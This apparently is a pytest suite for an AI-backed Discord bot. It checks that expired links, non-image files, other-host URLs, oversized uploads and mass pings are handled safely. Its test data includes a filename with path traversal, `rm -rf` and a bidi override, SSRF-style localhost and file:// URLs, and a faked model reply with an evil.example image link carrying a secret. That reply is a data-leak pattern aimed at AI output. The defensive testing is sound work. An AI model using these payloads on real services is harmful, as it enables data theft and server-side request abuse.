"""Pictures and words on Discord that are not what they seem: ended links, wrong types, other hosts, pings."""

from __future__ import annotations

import pytest
from discord_bot import Bot, Speaker, answers, labels, texts
from discord_standin import shapes
from discord_standin.rules import Json
from discord_standin.running import Discord


async def test_a_link_that_has_ended_is_made_anew(standin: Discord, place: Json, bot: Bot, photo: bytes) -> None:
    people, standin.platform.times.link_s = standin.people, -1
    old = people.upload(photo)
    standin.platform.times.link_s = 60
    people.say(people.anna, place, "@bot what is this?", [old])
    assert labels((await answers(standin, place))[0]) == ["Regenerate", "Show why"]


async def test_a_command_whose_link_has_ended_is_told(standin: Discord, place: Json, bot: Bot, photo: bytes) -> None:
    people, standin.platform.times.link_s = standin.people, -1
    people.command(people.anna, place, "ask", prompt="?", image=people.upload(photo))
    [said] = await people.until(lambda: whispers(standin))
    assert "post it again" in said


def whispers(standin: Discord) -> list[str]:
    """What the bot said to one person alone."""
    found = [one for one in standin.platform.messages.values() if one["flags"] & shapes.EPHEMERAL]
    return [one["content"] for one in found if one["content"]]


@pytest.mark.parametrize(
    ("data", "kind", "said"),
    [
        (b"%PDF-1.7", "application/pdf", "not read"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'/>", "image/svg+xml", "SVG"),
        (b"not a picture", "image/png", "not a picture"),
        (b"<!doctype html><p>Sign in", "image/png", "web page"),
    ],
)
async def test_what_is_no_picture_is_refused_with_a_sentence(
    standin: Discord, place: Json, bot: Bot, data: bytes, kind: str, said: str
) -> None:
    people = standin.people
    names = people.upload(data, "../../@everyone `rm -rf` \u202egnp.png", kind)
    people.command(people.anna, place, "ask", prompt="?", image=names)
    [sentence] = await people.until(lambda: whispers(standin))
    assert said in sentence
    people.say(people.anna, place, "@bot and this?", [names])
    [shown] = await people.until(lambda: [one for one in people.shown(place) if said in one["content"]])
    assert "everyone" not in shown["content"]


@pytest.mark.parametrize("host", ["http://127.0.0.1:9", "https://cdn.discordapp.com@127.0.0.1:9", "file://"])
async def test_files_of_other_hosts_are_not_fetched(standin: Discord, place: Json, bot: Bot, host: str) -> None:
    people = standin.people
    elsewhere = people.upload(b"x") | {"url": f"{host}/attachments/1/photo.png"}
    people.command(people.anna, place, "ask", prompt="?", image=elsewhere)
    [sentence] = await people.until(lambda: whispers(standin))
    assert "not the platform's" in sentence


async def test_a_picture_too_large_is_not_even_fetched(standin: Discord, place: Json, bot: Bot) -> None:
    people = standin.people
    people.command(people.anna, place, "ask", prompt="?", image=people.upload(b"x") | {"size": 21 * 2**20})
    [sentence] = await people.until(lambda: whispers(standin))
    assert "20 MiB" in sentence


async def test_the_models_words_ring_nobody_and_load_nothing(
    standin: Discord, place: Json, bot: Bot, model: Speaker
) -> None:
    people = standin.people
    model.answer = (
        f"@everyone @here <@{people.bert['id']}> <@&{place['guild_id']}> ![x](https://evil.example/a.png?secret) "
        "see https://evil.example/?q=secret. and [here](https://evil.example/b) `https://code.example` <#1>"
    )
    people.say(people.anna, place, "@bot read this")
    people.command(people.anna, place, "ask", prompt="@everyone read this")
    for shown in texts(await answers(standin, place, 2)):
        assert "<https://evil.example/?q=secret>." in shown
        assert "](<https://evil.example/b>)" in shown
        assert "`https://code.example`" in shown
        assert "@everyone" not in shown
        assert f"<@{people.bert['id']}>" not in shown
    flags = {one["flags"] for one in people.shown(place) if one["type"] == 19}
    assert flags == {1 << 2}


@pytest.mark.slow
async def test_heartbeats_go_on_while_pictures_are_decoded(
    standin: Discord, place: Json, bot: Bot, photo: bytes
) -> None:
    """The stand-in would complain; its heartbeat is the shortest that discord.py keeps up with."""
    people = standin.people
    for number in range(8):
        people.say(people.anna, place, f"@bot {number}", [people.upload(photo, f"{number}.png")] * 4)
    await answers(standin, place, 8)
    assert standin.gateway.identified == 1


async def test_hostile_messages_are_answered_with_a_sentence(standin: Discord, place: Json, bot: Bot) -> None:
    people, channel = standin.people, standin.platform.add_channel(shapes.DM)
    people.say(people.anna, channel, "x" * 4001)
    await people.until(lambda: "4,000" in "".join(texts(people.shown(channel))))
    people.say(people.anna, channel, "\x00 NUL")
    await people.until(lambda: "NUL" in "".join(texts(people.shown(channel))))
    people.say(people.anna, place, "@bot \u202e<@999> @everyone")
    await answers(standin, place)
